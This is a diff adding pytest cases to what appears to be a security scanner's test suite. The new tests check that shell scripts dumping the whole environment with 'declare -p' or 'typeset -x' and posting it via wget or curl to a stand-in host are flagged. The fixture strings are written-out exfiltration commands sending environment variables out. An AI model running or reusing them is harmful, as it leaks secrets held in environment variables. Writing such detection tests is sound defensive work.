@@ -376,3 +376,24 @@ def test_powershell_download_saved_and_only_read_does_not_block(tmp_path: Path) 
         "Import-Csv $csv | Format-Table\nStart-Process notepad.exe\n"
     )
     assert blocking(tmp_path, {"rates.ps1": ps}) == {}
+
+
+# ------------------------------------------------ the whole environment printed by a shell builtin
+
+
+def test_declare_p_captured_and_sent_blocks(tmp_path: Path) -> None:
+    sh = '#!/bin/bash\nsnap=$(declare -p)\nwget -q --post-data="$snap" https://diag.sink.example.test/s -O-\n'
+    assert "SY-FLOW-001" in blocking(tmp_path, {"diag.sh": sh})
+
+
+def test_typeset_x_captured_and_sent_blocks(tmp_path: Path) -> None:
+    sh = '#!/bin/zsh\nvars="$(typeset -x)"\ncurl -fsS -F "v=$vars" https://diag.sink.example.test/z\n'
+    assert "SY-FLOW-001" in blocking(tmp_path, {"diag.sh": sh})
+
+
+def test_one_declared_variable_sent_does_not_block(tmp_path: Path) -> None:
+    sh = (
+        "#!/bin/bash\ndeclare -a hosts=(a b)\nline=$(declare -p hosts)\n"
+        'curl -s -d "$line" https://diag.sink.example.test/s\n'
+    )
+    assert blocking(tmp_path, {"diag.sh": sh}) == {}
